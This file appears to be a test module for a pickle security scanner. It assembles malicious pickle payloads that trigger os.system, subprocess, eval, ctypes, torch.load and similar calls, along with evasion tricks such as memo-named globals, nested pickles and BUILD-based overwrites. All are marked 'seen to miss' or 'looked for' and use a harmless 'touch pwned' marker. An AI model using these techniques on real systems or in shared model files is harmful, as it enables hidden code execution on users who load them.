"""Calls that a file can ask for: those that scanners look for, and those that they were seen to
miss. Run by Python's pickle, most leave a file named ``pwned`` in the working folder; the watch
also sees what they import, start or open.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.assembler import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    REDUCE,
    STACK_GLOBAL,
    call,
    items,
    name,
    number,
    table,
    text,
)

_SHELL = "touch pwned"
_CODE = "open('pwned', 'w').close()"


def _simple(module: str, attribute: str, *arguments: str) -> Callable[[int], bytes]:
    def make(protocol: int) -> bytes:
        return call(module, attribute, *(text(a, protocol) for a in arguments), protocol=protocol)

    return make


def _popen(protocol: int) -> bytes:
    words = items(text("touch", protocol), text("pwned", protocol))
    return call("subprocess", "Popen", words, protocol=protocol)


def _dotted(protocol: int) -> bytes:
    """Reach the shell through a chain of attributes, which protocol 4 resolves."""
    return (
        text("pathlib", 4) + text("os.system", 4) + STACK_GLOBAL + items(text(_SHELL, 4)) + REDUCE
    )


def _by_getattr(protocol: int) -> bytes:
    module = call("builtins", "__import__", text("os", protocol), protocol=protocol)
    method = call("builtins", "getattr", module, text("system", protocol), protocol=protocol)
    return method + items(text(_SHELL, protocol)) + REDUCE


def _old_import(protocol: int) -> bytes:
    return call("__builtin__", "eval", text(_CODE, protocol), protocol=protocol)


def _inst(protocol: int) -> bytes:
    return MARK + text(_SHELL, protocol) + b"ios\nsystem\n"


def _obj(protocol: int) -> bytes:
    return MARK + name("os", "system") + text(_SHELL, protocol) + OBJ


def _newobj(protocol: int) -> bytes:
    words = items(text("touch", protocol), text("pwned", protocol))
    return name("subprocess", "Popen", protocol) + items(words) + NEWOBJ


def _newobj_ex(protocol: int) -> bytes:
    words = items(text("touch", protocol), text("pwned", protocol))
    return name("subprocess", "Popen", protocol) + items(words) + EMPTY_DICT + NEWOBJ_EX


def _memo_names(protocol: int) -> bytes:
    """Name the function by strings that were put into the memo under other things."""
    head = text("system", 4) + MEMOIZE + POP + text("os", 4) + MEMOIZE + POP
    return head + b"h\x01h\x00" + STACK_GLOBAL + items(text(_SHELL, 4)) + REDUCE


def _extension(protocol: int) -> bytes:
    return b"\x82\x01" + items(text(_SHELL, protocol)) + REDUCE


def _state_of_a_module(protocol: int) -> bytes:
    """Overwrite a function of a module by the state that BUILD sets."""
    state = table({"system": text("gone", protocol)}, protocol)
    return (
        call("importlib", "import_module", text("os", protocol), protocol=protocol) + state + BUILD
    )


def _setstate(protocol: int) -> bytes:
    method = name("os", "system", protocol)
    holder = call("types", "SimpleNamespace", protocol=protocol)
    state = table({"__setstate__": method}, protocol) if protocol else EMPTY_DICT
    return holder + state + BUILD + text(_SHELL, protocol) + BUILD


def _partial(protocol: int) -> bytes:
    bound = call(
        "functools", "partial", name("os", "system", protocol), text(_SHELL, protocol),
        protocol=protocol,
    )  # fmt: skip
    return bound + EMPTY_TUPLE + REDUCE


def _reduce_over(protocol: int) -> bytes:
    lists = items(items(text(_SHELL, protocol)))
    return call(
        "functools", "reduce", name("os", "system", protocol), lists, number(0), protocol=protocol
    )


def _nested(protocol: int) -> bytes:
    inner = b"cos\nsystem\n(V" + _SHELL.encode() + b"\ntR."
    data = b"C" + bytes([len(inner)]) + inner if protocol >= 3 else text(inner.decode(), protocol)
    return call("pickle", "loads", data, protocol=protocol)


def _map_in_list(protocol: int) -> bytes:
    mapped = call(
        "builtins", "map", name("os", "system", protocol), items(text(_SHELL, protocol)),
        protocol=protocol,
    )  # fmt: skip
    return call("builtins", "list", mapped, protocol=protocol)


def _code_object(protocol: int) -> bytes:
    made = call("marshal", "loads", text("c", protocol), protocol=protocol)
    function = call("types", "FunctionType", made, EMPTY_DICT, protocol=protocol)
    return function + EMPTY_TUPLE + REDUCE


CALLS: dict[str, Callable[[int], bytes]] = {
    "os.system": _simple("os", "system", _SHELL),
    "posix.system": _simple("posix", "system", _SHELL),
    "nt.system": _simple("nt", "system", _SHELL),
    "os.popen": _simple("os", "popen", _SHELL),
    "os.execl": _simple("os", "execl", "/usr/bin/touch", "touch", "pwned"),
    "subprocess.Popen": _popen,
    "subprocess.getoutput": _simple("subprocess", "getoutput", _SHELL),
    "builtins.eval": _simple("builtins", "eval", _CODE),
    "builtins.exec": _simple("builtins", "exec", _CODE),
    "builtins.compile": _simple("builtins", "compile", _CODE, "f", "exec"),
    "builtins.__import__": _simple("builtins", "__import__", "antigravity"),
    "builtins.open": _simple("builtins", "open", "pwned", "w"),
    "builtins.breakpoint": _simple("builtins", "breakpoint"),
    "__builtin__.eval": _old_import,
    "importlib.import_module": _simple("importlib", "import_module", "this"),
    "runpy.run_path": _simple("runpy", "run_path", "pwned.py"),
    "runpy._run_code": _simple("runpy", "_run_code", _CODE),
    "timeit.timeit": _simple("timeit", "timeit", _CODE),
    "pdb.run": _simple("pdb", "run", _CODE),
    "bdb.Bdb": _simple("bdb", "Bdb"),
    "profile.run": _simple("profile", "run", _CODE),
    "cProfile.run": _simple("cProfile", "run", _CODE),
    "trace.Trace": _simple("trace", "Trace"),
    "code.InteractiveInterpreter": _simple("code", "InteractiveInterpreter"),
    "doctest.debug_script": _simple("doctest", "debug_script", _CODE),
    "ensurepip._run_pip": _simple("ensurepip", "_run_pip", "install"),
    "pip.main": _simple("pip", "main", "install"),
    "pip._internal.main": _simple("pip._internal", "main", "install"),
    "idlelib.pyshell": _simple("idlelib.pyshell", "ModifiedInterpreter"),
    "lib2to3.Grammar.loads": _simple("lib2to3.pgen2.pgen", "generate_grammar", "pwned"),
    "webbrowser.open": _simple("webbrowser", "open", "file:///pwned"),
    "ctypes.CDLL": _simple("ctypes", "CDLL", "./pwned.so"),
    "_ctypes.dlopen": _simple("_ctypes", "dlopen", "./pwned.so", ""),
    "pty.spawn": _simple("pty", "spawn", "touch"),
    "uuid._get_command_stdout": _simple("uuid", "_get_command_stdout", "touch", "pwned"),
    "asyncio subprocess": _simple("asyncio.unix_events", "_UnixSubprocessTransport", "touch"),
    "multiprocessing.util.spawnv_passfds": _simple(
        "multiprocessing.util", "spawnv_passfds", "touch"
    ),
    "distutils.file_util.write_file": _simple("distutils.file_util", "write_file", "pwned", "x"),
    "shutil.rmtree": _simple("shutil", "rmtree", "pwned"),
    "socket.create_connection": _simple("socket", "create_connection", "localhost"),
    "urllib.request.urlopen": _simple("urllib.request", "urlopen", "http://localhost"),
    "smtplib.SMTP": _simple("smtplib", "SMTP", "localhost"),
    "logging.config.listen": _simple("logging.config", "listen"),
    "venv.create": _simple("venv", "create", "pwned"),
    "zipimport": _simple("zipimport", "zipimporter", "pwned.zip"),
    "site.main": _simple("site", "main"),
    "sys.exit": _simple("sys", "exit", "gone"),
    "os._exit": lambda protocol: call("os", "_exit", number(3), protocol=protocol),
    "signal.raise_signal": lambda protocol: call(
        "signal", "raise_signal", number(9), protocol=protocol
    ),
    "operator.methodcaller": _simple("operator", "methodcaller", "system"),
    "operator.attrgetter": _simple("operator", "attrgetter", "system"),
    "numpy runstring": _simple("numpy.testing._private.utils", "runstring", _CODE),
    "numpy getlincoef": _simple("numpy.f2py.crackfortran", "getlincoef", _CODE),
    "numpy.load": _simple("numpy", "load", "pwned.npy"),
    "torch.load": _simple("torch", "load", "pwned.pt"),
    "torch.hub.load": _simple("torch.hub", "load", "somebody/something", "model"),
    "torch collect_env.run": _simple("torch.utils.collect_env", "run", _SHELL),
    "torch compile_file": _simple("torch._inductor.codecache", "compile_file", "pwned.cpp"),
    "torch execWrapper": _simple("torch.jit.unsupported_tensor_ops", "execWrapper", _CODE),
    "torch run_cprofile": _simple("torch.utils.bottleneck.__main__", "run_cprofile", _CODE),
    "torch storage from bytes": _simple("torch.storage", "_load_from_bytes", "pwned"),
    "torch.jit.load": _simple("torch.jit", "load", "pwned.pt"),
    "torch cpp_extension": _simple("torch.utils.cpp_extension", "load_inline", "pwned"),
    "torch.distributed rpc": _simple("torch.distributed.rpc.internal", "_run_function", "x"),
    "dill": _simple("dill._dill", "_create_function", _CODE),
    "cloudpickle": _simple("cloudpickle.cloudpickle", "_make_function", _CODE),
    "joblib": _simple("joblib.numpy_pickle", "load", "pwned"),
    "sklearn joblib": _simple("sklearn.externals.joblib", "load", "pwned"),
    "pandas eval": _simple("pandas", "eval", _CODE),
    "yaml.unsafe_load": _simple("yaml", "unsafe_load", "!!python/object/apply:os.system [x]"),
    "copyreg._reconstructor": _simple("copyreg", "_reconstructor", "x"),
    "dotted name": _dotted,
    "import and getattr": _by_getattr,
    "INST": _inst,
    "OBJ": _obj,
    "NEWOBJ": _newobj,
    "NEWOBJ_EX": _newobj_ex,
    "names from the memo": _memo_names,
    "extension code": _extension,
    "state of a module": _state_of_a_module,
    "set state": _setstate,
    "functools.partial": _partial,
    "functools.reduce": _reduce_over,
    "nested pickle": _nested,
    "map in a list": _map_in_list,
    "code object": _code_object,
}
